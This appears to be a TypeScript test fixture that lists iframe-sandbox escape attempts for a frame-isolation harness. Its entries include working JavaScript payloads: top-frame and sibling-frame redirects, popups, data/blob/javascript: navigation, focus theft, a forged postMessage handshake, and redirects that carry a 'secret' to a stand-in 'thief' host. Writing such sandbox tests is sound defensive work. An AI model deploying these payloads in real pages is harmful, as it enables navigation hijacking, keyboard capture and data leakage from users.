import type { Attack } from './attack.ts'

/** Attacks that go somewhere, or get in the way of what comes next: each has a frame of its own. */
export const leaving: readonly Attack[] = [
  {
    name: 'top-location',
    tries: 'sends the page elsewhere',
    shown: true,
    code: `ran(name, 'now'); top.location.href = thief + '/' + name`,
  },
  {
    name: 'top-replace',
    tries: 'replaces the page',
    shown: true,
    code: `ran(name, 'now'); top.location.replace(thief + '/' + name)`,
  },
  {
    name: 'top-hash',
    tries: 'changes the fragment of the page',
    shown: true,
    code: `ran(name, 'now'); top.location.href = page + '/#' + name`,
  },
  {
    name: 'top-script',
    tries: 'runs a javascript: address in the page',
    shown: true,
    code: `ran(name, 'now'); top.location.href = 'javascript:void document.body.setAttribute("' + name + '", "")'`,
  },
  {
    name: 'top-link',
    tries: 'follows a link in the page’s place',
    shown: true,
    code: `ran(name, 'now'); add('<a id="go" target="_top" href="' + thief + '/' + name + '">x</a>'); document.addEventListener('click', (event) => event.stopImmediatePropagation(), true); document.getElementById('go').click()`,
  },
  {
    name: 'top-form',
    tries: 'sends a form in the page’s place',
    shown: true,
    code: `ran(name, 'now'); add('<form target="_top" action="' + thief + '/' + name + '"></form>'); document.forms[0].submit()`,
  },
  {
    name: 'top-open',
    tries: 'opens an address in the page’s place',
    shown: true,
    code: `ran(name, 'now'); window.open(thief + '/' + name, '_top')`,
  },
  {
    name: 'top-back',
    tries: 'goes back in the history of the page',
    shown: true,
    code: `ran(name, 'now'); history.go(-1); await pause(300)`,
  },
  {
    name: 'popup',
    tries: 'opens a window',
    shown: true,
    code: `loot(name, window.open(thief + '/' + name, '_blank'))`,
  },
  {
    name: 'popup-link',
    tries: 'opens a window by a link',
    shown: true,
    code: `document.addEventListener('click', (event) => event.stopImmediatePropagation(), true); add('<a id="go" target="_blank" href="' + thief + '/' + name + '">x</a>'); document.getElementById('go').click(); await pause(200)`,
  },
  {
    name: 'popup-form',
    tries: 'opens a window by a form',
    shown: true,
    code: `add('<form target="_blank" action="' + thief + '/' + name + '"></form>'); document.forms[0].submit(); await pause(200)`,
  },
  {
    name: 'self-location',
    tries: 'leaves with what it knows in the address',
    shown: true,
    code: `ran(name, 'now'); location.href = thief + '/' + name + '?secret'; await pause(300)`,
  },
  {
    name: 'self-open',
    tries: 'leaves by opening itself',
    shown: true,
    code: `ran(name, 'now'); window.open(thief + '/' + name, '_self'); await pause(300)`,
  },
  {
    name: 'self-link',
    tries: 'leaves by a link',
    shown: true,
    code: `ran(name, 'now'); document.addEventListener('click', (event) => event.stopImmediatePropagation(), true); add('<a id="go" href="' + thief + '/' + name + '">x</a>'); document.getElementById('go').click(); await pause(300)`,
  },
  {
    name: 'self-form',
    tries: 'leaves by a form',
    shown: true,
    code: `ran(name, 'now'); add('<form action="' + thief + '/' + name + '"></form>'); document.forms[0].submit(); await pause(300)`,
  },
  {
    name: 'self-refresh',
    tries: 'leaves by a refresh',
    shown: true,
    code: `ran(name, 'now'); document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0; url=' + thief + '/' + name + '">'); await pause(300)`,
  },
  {
    name: 'self-data',
    tries: 'becomes a document of data without a policy',
    shown: true,
    code: `ran(name, 'now'); location.href = 'data:text/html,' + encodeURIComponent('<img src="' + thief + '/' + name + '">'); await pause(300)`,
  },
  {
    name: 'self-blob',
    tries: 'becomes a document of a blob',
    shown: true,
    code: `ran(name, 'now'); location.href = blob('<img src="' + thief + '/' + name + '">', 'text/html'); await pause(300)`,
  },
  {
    name: 'self-script',
    tries: 'becomes the text of a javascript: address',
    shown: true,
    code: `ran(name, 'now'); location.href = 'javascript:' + JSON.stringify('<img src="' + thief + '/' + name + '">'); await pause(300)`,
  },
  {
    name: 'self-write',
    tries: 'writes its document anew',
    shown: true,
    code: `ran(name, 'now'); document.open(); document.write('<img src="' + thief + '/' + name + '">'); document.close(); await pause(300)`,
  },
  {
    name: 'sibling-location',
    tries: 'sends another frame of the page elsewhere',
    shown: true,
    code: `for (let n = 0; n < 20; n += 1) { for (let at = 0; at < parent.frames.length; at += 1) if (parent.frames[at] !== window) parent.frames[at].location = thief + '/' + name; await pause(50) }`,
  },
  {
    name: 'focus-theft',
    tries: 'takes the keyboard',
    shown: true,
    code: `ran(name, 'now'); const inner = document.createElement('iframe'); inner.srcdoc = '<input id="trap"><script>setInterval(() => { window.focus(); trap.focus() }, 10)<' + '/script>'; document.body.append(inner); await pause(600)`,
  },
  // the last one: where it gets through, the build after it is its own
  {
    name: 'forged-hello',
    tries: 'says hello in the name of the next frame',
    shown: true,
    code: `const hello = { type: 'sparkpad:hello', nonce: 'a guess' }; const inner = document.createElement('iframe'); inner.srcdoc = '<script>let n = 0; setInterval(() => { if ((n += 1) < 60) top.postMessage(' + JSON.stringify(hello) + ', "*", [new MessageChannel().port2]) }, 15)<' + '/script>'; document.body.append(inner); for (let n = 0; n < 90; n += 1) { const { port1, port2 } = new MessageChannel(); port1.onmessage = ({ data }) => loot(name, data.type); parent.postMessage(hello, '*', [port2]); await pause(10) }`,
  },
]
